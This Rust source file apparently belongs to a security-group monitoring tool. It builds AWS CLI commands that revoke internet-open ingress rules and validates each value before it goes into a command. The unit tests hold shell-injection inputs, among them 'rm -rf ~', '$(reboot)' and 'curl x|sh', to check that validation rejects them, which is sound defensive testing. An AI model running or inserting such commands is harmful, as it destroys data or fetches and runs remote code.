//! What the alert tells the owner to run: for each rule the change added that is open to the
//! internet, the AWS CLI command that removes that rule and nothing else.
//!
//! The rule is named by its id where one is known (`--security-group-rule-ids sgr-…`), else by
//! its permission (`--ip-permissions`), which removes the same rule. Every value in a command
//! comes from the resource, so each must look as AWS writes it (an id, a region, a CIDR, a
//! number) or no command is given: a command is pasted into a shell.

use serde::Serialize;

use crate::core::link::Links;
use crate::core::rules::{Action, Change, Direction, Protocol, Source};

/// A rule of the group as EC2 lists it now (`DescribeSecurityGroupRules`), or as the call that
/// added it answered (CloudTrail's `responseElements`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KnownRule {
    /// `sgr-…`.
    pub id: String,
    pub direction: Direction,
    pub protocol: Protocol,
    pub from_port: Option<i64>,
    pub to_port: Option<i64>,
    /// The CIDR, prefix list or group the rule names.
    pub source: String,
}

/// One command of the alert: the rule it removes, as the email shows it, and the command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Remedy {
    pub rule: String,
    pub command: String,
    /// The link that removes the rule in one click, where the stack signs links.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub revert_link: Option<String>,
    /// The link that keeps the rule (an acknowledgement, and no alert for it for a while).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub keep_link: Option<String>,
}

/// Whether the alert gives a command to remove this change's rule: an ingress rule added and open
/// to the internet.
pub fn wanted(change: &Change) -> bool {
    change.action == Action::Added
        && change.rule.direction == Direction::Ingress
        && change.rule.is_world()
}

/// The id of the rule `change` added, among `known`.
pub fn rule_id<'k>(change: &Change, known: &'k [KnownRule]) -> Option<&'k str> {
    let r = &change.rule;
    // EC2 lists "all ports" as -1 to -1, and the change has no ports then.
    let ports = |p: Option<i64>| p.filter(|n| *n != -1);
    known
        .iter()
        .find(|k| {
            k.direction == r.direction
                && k.protocol == r.protocol
                && (r.protocol == Protocol::All
                    || (ports(k.from_port) == ports(r.from_port)
                        && ports(k.to_port) == ports(r.to_port)))
                && k.source == r.source.as_str()
        })
        .map(|k| k.id.as_str())
}

/// `aws ec2 revoke-security-group-ingress …` for `change`'s rule in `group` of `region`, by
/// `rule_id` when known; `None` when a value is not one AWS would write.
pub fn revoke_command(
    region: &str,
    group: &str,
    change: &Change,
    rule_id: Option<&str>,
) -> Option<String> {
    if !(is_region(region) && is_id(group, "sg-")) {
        return None;
    }
    let head =
        format!("aws ec2 revoke-security-group-ingress --region {region} --group-id {group}");
    if let Some(id) = rule_id.filter(|id| is_id(id, "sgr-")) {
        return Some(format!("{head} --security-group-rule-ids {id}"));
    }
    // Quoted: the brackets would otherwise be a shell's glob.
    Some(format!("{head} --ip-permissions '{}'", permission(change)?))
}

/// `aws ec2 authorize-security-group-ingress …` that adds `change`'s rule back to `group` of
/// `region` (after sgwatch reverted it); `None` when a value is not one AWS would write.
pub fn authorize_command(region: &str, group: &str, change: &Change) -> Option<String> {
    if !(is_region(region) && is_id(group, "sg-")) {
        return None;
    }
    Some(format!(
        "aws ec2 authorize-security-group-ingress --region {region} --group-id {group} --ip-permissions '{}'",
        permission(change)?
    ))
}

/// The rule as the CLI's `--ip-permissions` shorthand:
/// `IpProtocol=tcp,FromPort=3389,ToPort=3389,IpRanges=[{CidrIp=0.0.0.0/0}]`.
fn permission(change: &Change) -> Option<String> {
    let r = &change.rule;
    let protocol = match &r.protocol {
        Protocol::All => "-1".to_owned(),
        Protocol::Other(p) if p.chars().all(|c| c.is_ascii_alphanumeric()) => p.clone(),
        Protocol::Other(_) => return None,
        p => p.as_str().to_owned(),
    };
    let mut permission = format!("IpProtocol={protocol}");
    if r.protocol != Protocol::All {
        if let (Some(from), Some(to)) = (r.from_port, r.to_port) {
            permission.push_str(&format!(",FromPort={from},ToPort={to}"));
        }
    }
    let cidr = |c: &str| {
        !c.is_empty()
            && c.chars()
                .all(|ch| ch.is_ascii_hexdigit() || ".:/".contains(ch))
    };
    match &r.source {
        Source::Cidr4(c) if cidr(c) => permission.push_str(&format!(",IpRanges=[{{CidrIp={c}}}]")),
        Source::Cidr6(c) if cidr(c) => {
            permission.push_str(&format!(",Ipv6Ranges=[{{CidrIpv6={c}}}]"))
        }
        Source::PrefixList(p) if is_id(p, "pl-") => {
            permission.push_str(&format!(",PrefixListIds=[{{PrefixListId={p}}}]"))
        }
        _ => return None,
    }
    Some(permission)
}

/// The commands for a change of `group` in `region`: one per rule added open to the internet.
/// With each, the rule's links among `links`, where the stack signed them.
pub fn remedies(
    region: &str,
    group: &str,
    changes: &[Change],
    known: &[KnownRule],
    links: &[Links],
) -> Vec<Remedy> {
    changes
        .iter()
        .filter(|c| wanted(c))
        .filter_map(|c| {
            let command = revoke_command(region, group, c, rule_id(c, known))?;
            let rule = c.rule.to_string();
            let links = links.iter().find(|l| l.rule == rule);
            Some(Remedy {
                rule: crate::core::render::change_line(c),
                command,
                revert_link: links.map(|l| l.revert.clone()),
                keep_link: links.map(|l| l.keep.clone()),
            })
        })
        .collect()
}

/// `sg-0123abcd`, `sgr-…`, `pl-…`: the prefix and 8 to 17 lowercase hex digits.
pub(crate) fn is_id(id: &str, prefix: &str) -> bool {
    id.strip_prefix(prefix).is_some_and(|hex| {
        (8..=17).contains(&hex.len())
            && hex
                .chars()
                .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c))
    })
}

/// `us-east-1`, `eu-central-2`, `us-gov-west-1`.
pub(crate) fn is_region(region: &str) -> bool {
    !region.is_empty()
        && region.len() <= 32
        && region
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::rules::AtomicRule;

    const SG: &str = "sg-0123456789abcdef0";

    fn added(protocol: Protocol, ports: Option<(i64, i64)>, source: Source) -> Change {
        Change {
            action: Action::Added,
            rule: AtomicRule {
                direction: Direction::Ingress,
                protocol,
                from_port: ports.map(|p| p.0),
                to_port: ports.map(|p| p.1),
                source,
                description: None,
                listed: None,
            },
        }
    }

    fn rdp() -> Change {
        added(
            Protocol::Tcp,
            Some((3389, 3389)),
            Source::Cidr4("0.0.0.0/0".into()),
        )
    }

    #[test]
    fn the_command_names_the_rule_by_its_id_when_known_else_by_its_permission() {
        let known = [
            KnownRule {
                id: "sgr-0aaaaaaaaaaaaaaaa".into(),
                direction: Direction::Ingress,
                protocol: Protocol::Tcp,
                from_port: Some(80),
                to_port: Some(80),
                source: "0.0.0.0/0".into(),
            },
            KnownRule {
                id: "sgr-0bbbbbbbbbbbbbbbb".into(),
                direction: Direction::Ingress,
                protocol: Protocol::Tcp,
                from_port: Some(3389),
                to_port: Some(3389),
                source: "0.0.0.0/0".into(),
            },
        ];
        assert_eq!(
            remedies("us-east-1", SG, &[rdp()], &known, &[]),
            [Remedy {
                rule: "+ingress tcp/3389 from 0.0.0.0/0".into(),
                command: "aws ec2 revoke-security-group-ingress --region us-east-1 --group-id \
                          sg-0123456789abcdef0 --security-group-rule-ids sgr-0bbbbbbbbbbbbbbbb"
                    .into(),
                revert_link: None,
                keep_link: None,
            }]
        );
        assert_eq!(
            revoke_command("us-east-1", SG, &rdp(), None).unwrap(),
            "aws ec2 revoke-security-group-ingress --region us-east-1 --group-id \
             sg-0123456789abcdef0 --ip-permissions \
             'IpProtocol=tcp,FromPort=3389,ToPort=3389,IpRanges=[{CidrIp=0.0.0.0/0}]'"
        );
        let all = added(Protocol::All, None, Source::Cidr6("::/0".into()));
        assert!(revoke_command("eu-west-1", SG, &all, None)
            .unwrap()
            .ends_with("--ip-permissions 'IpProtocol=-1,Ipv6Ranges=[{CidrIpv6=::/0}]'"));
        // EC2 lists all ports as -1..-1.
        let listed_all = KnownRule {
            id: "sgr-0cccccccccccccccc".into(),
            direction: Direction::Ingress,
            protocol: Protocol::All,
            from_port: Some(-1),
            to_port: Some(-1),
            source: "::/0".into(),
        };
        assert_eq!(rule_id(&all, &[listed_all]), Some("sgr-0cccccccccccccccc"));
    }

    #[test]
    fn only_rules_added_open_to_the_internet_get_a_command() {
        let mut removed = rdp();
        removed.action = Action::Removed;
        let office = added(
            Protocol::Tcp,
            Some((22, 22)),
            Source::Cidr4("203.0.113.0/24".into()),
        );
        let mut egress = rdp();
        egress.rule.direction = Direction::Egress;
        assert!(remedies("us-east-1", SG, &[removed, office, egress], &[], &[]).is_empty());
    }

    #[test]
    fn a_value_aws_would_not_write_gives_no_command_to_paste() {
        assert_eq!(
            revoke_command("us-east-1; rm -rf ~", SG, &rdp(), None),
            None
        );
        assert_eq!(
            revoke_command("us-east-1", "sg-$(reboot)", &rdp(), None),
            None
        );
        let hostile = added(
            Protocol::Tcp,
            Some((22, 22)),
            Source::Cidr4("0.0.0.0/0' ; curl x|sh '".into()),
        );
        assert_eq!(revoke_command("us-east-1", SG, &hostile, None), None);
        // A forged rule id is not used; the permission names the rule instead.
        let by_permission = revoke_command("us-east-1", SG, &rdp(), Some("sgr-x';id'")).unwrap();
        assert!(
            by_permission.contains("--ip-permissions"),
            "{by_permission}"
        );
    }
}
